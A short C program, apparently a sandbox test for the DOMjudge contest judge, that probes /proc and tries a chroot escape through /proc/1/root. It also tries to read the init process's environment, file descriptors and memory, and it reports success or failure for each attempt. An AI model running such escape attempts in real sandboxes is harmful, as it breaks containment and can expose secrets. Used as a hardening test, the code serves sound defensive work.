/* Looks around /proc and tries to escape through /proc/1/root (DOMjudge chroot-escape). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    int pids = 0; DIR *d = opendir("/proc"); struct dirent *e;
    while (d && (e = readdir(d))) if (e->d_name[0] >= '0' && e->d_name[0] <= '9') pids++;
    printf("pids=%d\n", pids);
    int fd = open("/proc/1/environ", O_RDONLY); printf("environ1: %s\n", fd < 0 ? strerror(errno) : "OPENED");
    DIR *f = opendir("/proc/1/fd"); printf("fd1: %s\n", f ? "LISTED" : strerror(errno));
    printf("chroot: %s\n", chroot("/proc/1/root") == 0 ? "ESCAPED" : strerror(errno));
    fd = open("/proc/1/mem", O_RDONLY); printf("mem1: %s\n", fd < 0 ? strerror(errno) : "OPENED");
    return 0;
}
